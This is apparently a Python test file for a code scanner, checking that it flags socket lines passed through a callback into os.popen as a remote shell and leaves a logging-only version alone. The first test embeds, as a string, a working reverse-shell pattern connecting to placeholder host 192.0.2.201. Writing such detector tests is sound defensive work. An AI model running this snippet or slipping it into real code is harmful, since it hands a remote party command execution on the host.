"""Python: a function of the file handed to a helper by name (a callback) is what the helper calls
through its parameter, so a line the helper reads from a connection and hands the callback reaches
what the callback does with it. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_lines_from_a_connection_handed_to_a_callback_that_runs_them_are_run(tmp_path: Path) -> None:
    source = (
        "import os, socket\n"
        "def do_line(cmd):\n"
        "    return os.popen(cmd).read()\n"
        "def pump(stream, on_line):\n"
        "    for chunk in stream:\n"
        "        stream.write(on_line(chunk.strip()).encode())\n"
        "conn = socket.create_connection(('192.0.2.201', 8443))\n"
        "pump(conn.makefile('rwb'), do_line)\n"
    )
    errors = scan_errors(tmp_path, {"scripts/sync_agent.py": source})
    assert [e for e in errors if e[1] == "scripts/sync_agent.py" and e[0] in ("DOWNLOAD_AND_RUN", "REMOTE_SHELL")]


def test_lines_from_a_connection_handed_to_a_callback_that_logs_them_are_no_error(tmp_path: Path) -> None:
    source = (
        "import socket\n"
        "def note(line):\n"
        "    print('status:', line)\n"
        "def pump(stream, on_line):\n"
        "    for chunk in stream:\n"
        "        on_line(chunk.strip())\n"
        "conn = socket.create_connection(('192.0.2.201', 8443))\n"
        "pump(conn.makefile('rb'), note)\n"
    )
    assert scan_errors(tmp_path, {"scripts/status.py": source}) == set()
